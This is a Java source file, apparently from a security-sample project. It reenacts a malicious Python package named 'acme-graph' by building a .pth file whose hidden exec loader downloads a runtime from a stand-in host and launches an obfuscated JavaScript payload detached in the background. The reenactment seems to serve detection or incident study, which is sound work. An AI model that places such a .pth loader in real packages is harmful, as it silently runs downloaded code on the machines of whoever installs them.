package dev.gatehouse.samples.incident;

import java.util.LinkedHashMap;
import java.util.Map;

/** Hades, five packages: one {@code exec} in a {@code .pth}, a marker file, a foreign runtime. */
final class Hades {
  private static final int SCRIPT_LENGTH = 600_000;

  private static final String LOADER =
      """
      import glob, os, subprocess, sys, tempfile, urllib.request, zipfile
      mark = os.path.join(tempfile.gettempdir(), ".acme-graph-ready")
      if not os.path.exists(mark):
          open(mark, "w").close()
          base = tempfile.mkdtemp()
          pack = os.path.join(base, "rt.zip")
          urllib.request.urlretrieve("https://dist.graph.invalid/bun-linux-x64.zip", pack)
          zipfile.ZipFile(pack).extractall(base)
          tool = os.path.join(base, "bun-linux-x64", "bun")
          os.chmod(tool, 0o700)
          for where in sys.path:
              for code in glob.glob(os.path.join(where, "acme_graph", "_index.js")):
                  subprocess.Popen([tool, code], executable="true", start_new_session=True)
      """;

  private Hades() {}

  static Reenactment setup() {
    Map<String, String> carriers = new LinkedHashMap<>();
    carriers.put("acme-graph-setup.pth", "import sys; exec(" + literal(guarded()) + ")\n");
    carriers.put("acme_graph/_index.js", ObfuscatedScript.ofLength(SCRIPT_LENGTH, 20_260_607));
    return Reenactment.ofTexts("hades", "acme-graph", "0.4.2", carriers);
  }

  private static String guarded() {
    return "try:\n" + LOADER.indent(4) + "except Exception:\n    pass\n";
  }

  /** A Python string of one line. */
  private static String literal(String text) {
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n") + "'";
  }
}
